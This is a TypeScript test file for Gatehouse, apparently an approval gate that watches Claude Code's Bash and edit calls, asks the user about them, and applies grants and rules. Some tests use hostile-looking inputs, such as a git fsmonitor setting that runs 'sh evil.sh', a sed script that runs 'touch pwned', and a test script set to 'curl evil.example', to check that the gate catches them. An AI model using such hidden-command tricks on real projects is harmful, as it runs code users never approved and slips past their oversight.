import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { eventually } from '../fakes/test-app.ts';
import { git } from '../fakes/typescript-project.ts';
import { nativeApp, patientMs } from './native-app.ts';

describe("an agent's own tools", { timeout: 2 * patientMs }, () => {
  it('are asked about once, by an ask for access that shows the call', async () => {
    const app = await nativeApp();
    const first = app.bash('npm test');
    const asking = app.ask(first);
    const ask = await app.accessAsk();
    expect(ask.reason).toBe('It wants to run npm test with its own Bash tool.');
    expect(ask.roots).toEqual([app.root]);
    expect(ask.scopes).toEqual(expect.arrayContaining(['write:files', 'run:commands']));
    expect(ask.scopes).not.toContain('delete:files');
    await app.allowAccess();
    // The command was in the question, so it is not asked about again.
    expect(await asking).toBe('allow');
    await app.ask(app.after(first));
    expect(await app.outcomeOf('native_command')).toMatchObject({
      ...{ result: 'done', carried_out_by: 'Claude Code itself (Bash)' },
    });
  });

  it('run in the grant without a question: reads, git by the table, edits', async () => {
    const app = await nativeApp();
    git(app.root, 'init', '--quiet');
    await app.grant();
    for (const command of ['cat src/a.ts', 'git status --short', 'grep -rn old src | head -5'])
      expect(`${command}: ${await app.ask(app.bash(command))}`).toBe(`${command}: allow`);
    expect(await app.ask(app.edit('src/a.ts', ['old line', 'new line']))).toBe('allow');
    expect(app.app.app.core.asks.list()).toEqual([]);
  });

  it.each([
    ['a setting that names a program', ['config', 'core.fsmonitor', 'sh evil.sh'], 'git status'],
    ['hooks in another folder', ['config', 'core.hooksPath', 'hooks'], 'git commit -m x'],
    ['a program in the script of sed', [], "git status && sed '1e touch pwned' src/a.ts"],
    ['a file in the script of sed', [], "git status && sed 's/x/y/w out' src/a.ts"],
  ])('ask about git with %s', async (_what, change, command) => {
    const app = await nativeApp();
    git(app.root, 'init', '--quiet');
    if (change.length > 0) git(app.root, ...change);
    await app.grant();
    const asking = app.ask(app.bash(command));
    const { askId } = await app.confirmation();
    app.app.app.core.asks.answer(askId, { kind: 'deny', reason: '' });
    expect(await asking).toMatch(/^deny: /);
  });

  it('ask about git with a hook, and about git in a folder below the top', async () => {
    const app = await nativeApp();
    git(app.root, 'init', '--quiet');
    await app.grant();
    fs.mkdirSync(path.join(app.root, 'below'));
    const below = { ...app.bash('git status'), cwd: path.join(app.root, 'below') };
    const answers = [app.ask(below)];
    const first = await app.confirmation();
    app.app.app.core.asks.answer(first.askId, { kind: 'deny', reason: '' });
    fs.mkdirSync(path.join(app.root, '.git/hooks'), { recursive: true });
    fs.writeFileSync(path.join(app.root, '.git/hooks/pre-commit'), '#!/bin/sh\n');
    answers.push(app.ask(app.bash('git commit -m x')));
    const second = await app.confirmation();
    app.app.app.core.asks.answer(second.askId, { kind: 'deny', reason: '' });
    for (const answer of await Promise.all(answers)) expect(answer).toMatch(/^deny: /);
  });

  it('are denied in words that the model reads', async () => {
    const app = await nativeApp();
    await app.grant();
    const asking = app.ask(app.bash('npm run deploy'));
    const { askId, native, command, sentence } = await app.confirmation();
    expect(native).toEqual({ agentName: 'Claude Code', tool: 'Bash' });
    expect(command?.sandbox).toMatchObject({
      ...{ kind: 'not-sandboxed', why: 'The agent runs this itself, outside the sandbox.' },
    });
    expect(sentence).toBe('run npm run deploy with its own Bash tool');
    app.app.app.core.asks.answer(askId, { kind: 'deny', reason: 'not on a Friday' });
    expect(await asking).toMatch(/^deny: Gatehouse: .*They wrote: not on a Friday/);
  });

  it('show the difference of an edit, and can be undone', async () => {
    const app = await nativeApp();
    await app.grant();
    const before = app.edit('package.json', ['node --test', 'curl evil.example']);
    const asking = app.ask(before);
    const ask = await app.confirmation();
    expect(ask.changes[0]?.diff).toContain('+{"scripts":{"test":"curl evil.example"}}');
    expect(ask.changes[0]?.isProtected).toBe(true);
    app.app.app.core.asks.answer(ask.askId, { kind: 'once' });
    expect(await asking).toBe('allow');
    const file = path.join(app.root, 'package.json');
    fs.writeFileSync(file, '{"scripts":{"test":"curl evil.example"}}\n');
    await app.ask(app.after(before));
    const outcome = await app.outcomeOf('native_edit');
    expect(outcome['changes']).toEqual([
      { path: file, before: expect.any(String), after: expect.any(String) },
    ]);
  });

  it('are asked about when what they replace is too large to be kept', async () => {
    const app = await nativeApp();
    await app.grant();
    fs.writeFileSync(path.join(app.root, 'data.txt'), 'x'.repeat(2 * 1024 ** 2 + 1));
    const asking = app.ask(app.write('data.txt', 'gone'));
    const { askId, because } = await app.confirmation();
    expect(because.join(' ')).toContain('data.txt is too large to be kept');
    app.app.app.core.asks.answer(askId, { kind: 'once' });
    expect(await asking).toBe('allow');
  });

  it('end with an unknown outcome when no report comes', async () => {
    const app = await nativeApp();
    await app.grant();
    expect(await app.ask(app.edit('src/a.ts', ['old', 'new']))).toBe('allow');
    app.app.clock.skip(3_000);
    expect(await app.ask(app.bash('ls'))).toBe('allow');
    await app.app.clock.advance(5_000);
    expect(await app.outcomeOf('native_edit')).toMatchObject({
      ...{ result: 'unknown', code: 'outcome-unknown' },
    });
  });

  it('fail as the agent reports it', async () => {
    const app = await nativeApp();
    await app.grant();
    const before = app.edit('src/a.ts', ['old', 'new']);
    await app.ask(before);
    const report = { hook_event_name: 'PostToolUseFailure', error: 'String not found' };
    await app.ask(app.after(before, report));
    expect(await app.outcomeOf('native_edit')).toMatchObject({
      ...{ result: 'failed', code: 'agent-failed', detail: expect.stringContaining('not found') },
    });
  });

  it('stay with one question when the own prompt asks for the same', async () => {
    const app = await nativeApp();
    await app.grant();
    const before = app.bash('npm run deploy');
    const asking = app.ask(before);
    const { askId } = await app.confirmation();
    const prompting = app.ask(app.permission(before));
    const again = app.ask(before);
    await eventually(() => app.app.app.core.asks.list().length === 1, patientMs);
    app.app.app.core.asks.answer(askId, { kind: 'once' });
    expect(await asking).toBe('allow');
    expect(await prompting).toBe('allow');
    expect(await again).toBe('allow');
    expect(await app.ask(app.permission(before))).toBe('allow');
    expect(app.app.app.core.asks.list()).toEqual([]);
  });

  it('withdraw the question when the terminal answered first', async () => {
    const app = await nativeApp();
    await app.grant();
    const before = app.bash('npm run deploy');
    const asking = app.ask(before);
    await app.confirmation();
    await app.ask(app.after(before));
    expect(await asking).toMatch(/^deny/);
    expect(app.app.app.core.asks.list()).toEqual([]);
    expect(await app.outcomeOf('native_command')).toMatchObject({
      ...{ code: 'answered-elsewhere', detail: expect.stringContaining('carried it out') },
    });
  });

  it('withdraw the question when the next call shows that the own prompt was answered', async () => {
    const app = await nativeApp();
    await app.grant();
    const before = app.bash('npm run deploy');
    const asking = app.ask(app.permission(before));
    await app.confirmation();
    app.app.clock.skip(3_000);
    expect(await app.ask(app.bash('ls'))).toBe('allow');
    expect(await asking).toMatch(/^deny/);
    expect(app.app.app.core.asks.list()).toEqual([]);
  });

  it('withdraw the question when the hook is killed', async () => {
    const app = await nativeApp();
    await app.grant();
    const hook = app.start(app.bash('npm run deploy'));
    await app.confirmation();
    hook.kill();
    await eventually(() => app.app.app.core.asks.list().length === 0, patientMs);
  });

  it('keep a yes for a program and its first word, as for commands of Gatehouse', async () => {
    const app = await nativeApp();
    await app.grant();
    const asking = app.ask(app.bash('npm test -- --watch=false'));
    const { askId, family } = await app.confirmation();
    expect(family?.words).toBe('npm test');
    app.app.app.core.asks.answer(askId, { kind: 'session' });
    expect(await asking).toBe('allow');
    expect(await app.ask(app.bash('npm test 2>&1 | tail -20'))).toBe('allow');
  });

  it('follow rules about the same actions of Gatehouse', async () => {
    const app = await nativeApp();
    await app.grant();
    const { rules } = app.app.app.core;
    const within = path.join(app.root, 'src');
    const draft = { effect: 'deny', client: null, within, seconds: null } as const;
    const made = await rules.make({ ...draft, actions: ['edit_buffer'], fromEntry: null });
    if (!made.made) throw new Error(JSON.stringify(made));
    await rules.add(made.rule);
    expect(await app.ask(app.edit('src/a.ts', ['old', 'new']))).toMatch(/^deny: .*rule/);
    expect(await app.ask(app.edit('package.json', ['"scripts"', '"scripts"']))).not.toMatch(/rule/);
  });

  it('pass without a word: reads, its own lists, and tools of Gatehouse', async () => {
    const app = await nativeApp();
    const read = app.event('PreToolUse', 'Read', { file_path: path.join(app.root, 'src/a.ts') });
    expect(await app.ask(read)).toBe('pass');
    expect(await app.ask(app.event('PreToolUse', 'TodoWrite', { todos: [] }))).toBe('pass');
    const own = { mcp_server: { name: 'gatehouse', source: 'user' } };
    expect(await app.ask(app.event('PreToolUse', 'mcp__gatehouse__open_file', {}, own))).toBe(
      'pass',
    );
    expect(app.app.app.core.asks.list()).toEqual([]);
  });

  it('are asked about when nobody knows the tool, and kept by its name', async () => {
    const app = await nativeApp();
    await app.grant();
    const asking = app.ask(app.event('PreToolUse', 'Teleport', { to: '/' }, { tool_use_id: 'x' }));
    const { askId, forSession, sentence } = await app.confirmation();
    expect(sentence).toContain('Teleport, which Gatehouse does not know');
    expect(forSession).toBe('every Teleport of Claude Code with any arguments');
    app.app.app.core.asks.answer(askId, { kind: 'session' });
    expect(await asking).toBe('allow');
    const other = app.event('PreToolUse', 'Teleport', { to: '/2' }, { tool_use_id: 'y' });
    expect(await app.ask(other)).toBe('allow');
  });

  it('need more access outside the folder', async () => {
    const app = await nativeApp();
    await app.grant();
    const other = path.join(path.dirname(app.root), 'quay');
    fs.mkdirSync(other);
    const asking = app.ask(app.write(path.join(other, 'a.txt'), 'x'));
    const ask = await app.accessAsk();
    expect(ask.roots).toEqual([other]);
    app.app.app.core.asks.answer(ask.askId, { kind: 'deny', reason: '' });
    expect(await asking).toMatch(/^deny/);
  });
});
